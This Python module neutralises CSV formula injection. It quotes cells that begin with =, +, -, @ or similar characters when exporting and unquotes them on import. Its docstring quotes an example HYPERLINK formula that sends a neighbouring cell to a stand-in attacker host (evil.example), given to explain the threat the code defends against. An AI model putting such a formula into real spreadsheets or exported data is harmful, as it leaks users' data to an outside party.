"""CSV cells that a spreadsheet will not run as formulas (OWASP, "CSV Injection").

A cell that starts with =, +, -, @, a tab or a carriage return (or their
full-width forms, which some spreadsheets also accept) is read as a formula by
Excel, LibreOffice and Google Sheets: `=HYPERLINK("https://evil.example/?x="&L2)`
in a source title would send the row next to it to whoever wrote it. Every CSV
the app writes puts a single quote before such a cell — shown as the text it was,
not run — and the importer takes it off again, so a file round-trips unchanged.
Numbers ("-2") are left alone: they cannot carry a formula.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """Return the cell with a leading quote if a spreadsheet would run it."""
    if text.startswith(TRIGGERS) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` on a cell read back from a file the app wrote."""
    if text.startswith("'") and text[1:].startswith(TRIGGERS) and not NUMBER.fullmatch(text[1:]):
        return text[1:]
    return text
